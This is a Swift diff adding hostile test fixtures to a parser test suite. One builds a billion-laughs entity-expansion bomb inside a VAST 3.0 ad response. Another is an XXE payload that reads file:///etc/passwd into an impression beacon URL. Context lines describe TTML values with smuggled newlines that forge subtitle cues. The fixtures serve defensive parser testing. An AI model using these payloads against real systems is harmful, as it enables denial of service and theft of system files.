@@ -80,6 +80,27 @@ enum Hostile {
     return text + ">x</p></div></body></tt>\n"
   }
 
+  /// A VAST 3.0 response whose `Duration` is a billion-laughs entity: `levels` entities, each
+  /// ten of the one before (10^levels "lol"s if expanded).
+  static func vastBillionLaughs(levels: Int) -> String {
+    var text = "<?xml version=\"1.0\"?>\n<!DOCTYPE VAST [\n  <!ENTITY lol0 \"lol\">\n"
+    for i in 1...levels {
+      text += "  <!ENTITY lol\(i) \"" + String(repeating: "&lol\(i - 1);", count: 10) + "\">\n"
+    }
+    return text + "]>\n<VAST version=\"3.0\"><Ad id=\"a\"><InLine><Creatives><Creative><Linear>"
+      + "<Duration>&lol\(levels);</Duration></Linear></Creative></Creatives></InLine></Ad></VAST>\n"
+  }
+
+  /// A VAST 3.0 response whose impression URL is an external entity naming `/etc/passwd`
+  /// (XXE: a reader that resolves it would put the file into the output's beacons).
+  static let vastExternalEntity = """
+    <?xml version="1.0"?>
+    <!DOCTYPE VAST [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
+    <VAST version="3.0"><Ad id="a"><InLine><Impression>https://t.example/?&xxe;</Impression>
+    </InLine></Ad></VAST>
+
+    """
+
   /// A TTML document whose values carry line breaks and markup: a newline in `xml:lang` that
   /// would make a `Language:` header line and a cue, CRs in cue text and `xml:id` that would end
   /// an SRT cue or forge a WebVTT cue id, and escaped `-->` and `<b>` (finding 9).
